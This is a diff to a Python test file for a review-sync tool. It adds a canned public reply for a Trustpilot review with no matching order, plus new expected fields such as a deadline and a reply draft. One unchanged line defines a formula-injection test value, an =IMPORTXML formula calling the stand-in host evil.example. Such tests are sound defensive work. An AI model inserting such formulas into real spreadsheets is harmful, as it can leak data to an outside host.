@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from dataclasses import replace
+from datetime import timedelta
 
 from sync.core.cells import Formula, Raw
 from sync.core.records import Review
@@ -15,6 +16,12 @@ HOSTILE = '=IMPORTXML("https://evil.example","//a")'
 def cells(one: Review, *others: object, **staff: Raw) -> dict[str, object]:
     typed = {"trustpilot": {one.key: staff}}
     return by_key(rows("trustpilot", book(one, *others, staff=typed), SETTINGS, AS_OF))[one.key]
+
+
+UNKNOWN = (
+    "Hello Ana, thank you for telling us. We are sorry, and we want to put it right, but cannot find your order under "
+    "this name. Please write to us through the contact page of our shop, so that we can help. Lumen"
+)
 
 
 def test_a_bad_review_without_an_order_reads_like_this() -> None:
@@ -36,6 +43,14 @@ def test_a_bad_review_without_an_order_reads_like_this() -> None:
         "info_answered_on": None,
         "edited_on": None,
         "removed_on": None,
+        "do_by": ago(hours=20) + timedelta(hours=24),
+        "next_step": "Order unknown → reply in public, ask who the reviewer is",
+        "about_order": None,
+        "reply_draft": UNKNOWN,
+        "reply_check": "OK",
+        "changed": None,
+        "private_message": None,
+        "cause_guessed": "Delivery: slow on the way",
     }
 
 
